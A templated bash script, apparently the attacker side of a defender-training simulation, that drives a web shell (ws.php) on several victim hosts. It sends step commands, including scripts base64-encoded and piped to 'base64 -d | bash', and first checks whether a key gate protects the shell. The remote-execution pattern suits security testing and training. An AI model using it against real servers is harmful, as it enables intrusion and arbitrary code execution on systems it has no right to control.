# Runs in the attacker. Waits until the client reports that the victims are ready, then sends one request per step to
# the web shell of each victim. The victims' reports are printed to this pod's log, each line with the victim's host
# name. The key of the web shell and the token of the step are in $CURL_HOME/.curlrc, which differs for each step; the
# token of the victim and the line "http <status>" are in the victim's own file.
say() { printf 'defender-sim/2 %s %s\n' "$victim" "$*"; }
# Requests a page without the key; any response but 403 means that the gate does not protect the web shell.
gate() {
  for _ in 1 2 3 4 5; do
    code=$(curl -qso /dev/null -m 10 -w '%{http_code}' "http://$host/ws.php")
    status=$?
    [ $status = 6 ] || [ $status = 7 ] || break
    sleep 1
  done
  code=${code:-0}
  [ "$code" = 403 ]
}
# Prints the lines of a victim's answer that are of the protocol. They are short, so the lines of several victims do
# not mix.
relay() {
  while IFS= read -r line; do
    case $line in "defender-sim/2 $victim "*) printf '%.2000s\n' "$line" ;; esac
  done
}
finish() {
  say gate after "$code" "$status"
  say done
}
attack() {
  local victim=$1 file name number step query answer code status
  local host=@HOST@
  gate
  say gate before "$code" "$status"
  if [ "$code" != 403 ]; then
    say done
    return
  fi
  for file in /simulation/steps/*; do
    name=${file##*/}
    number=${name%%-*} step=${name#*-}
    case $file in
      *.sh) step=${step%.sh} query="cmd=echo $(base64 -w0 "$file")| base64 -d| bash" ;;
      *.visit) step=${step%.visit} query=visit=$step ;;
      *) query=cmd=$(<"$file") ;;
    esac
    say begin "$step"
    for _ in 1 2 3 4 5; do
      answer=$(CURL_HOME=/simulation/key/$number curl -Gs -K "/simulation/key/$victim" --data-urlencode "$query" "http://$host/ws.php")
      status=$?
      # Retry only if no connection was made: a request that may have run is never sent twice.
      [ $status = 6 ] || [ $status = 7 ] || break
      sleep 1
    done
    relay <<<"$answer"
    say end "$step" "$status"
    # A victim that does not answer any more gets no further requests.
    if [ "$status" != 0 ] && ! gate; then
      finish
      return
    fi
  done
  gate
  finish
}
@SETUP@
until [ -s /simulation/go/run ]; do sleep 0.1; done
running=0
for victim in @VICTIMS@; do
  if [ $running = @PARALLEL@ ]; then
    wait -n
    running=$((running - 1))
  fi
  attack "$victim" &
  running=$((running + 1))
done
wait
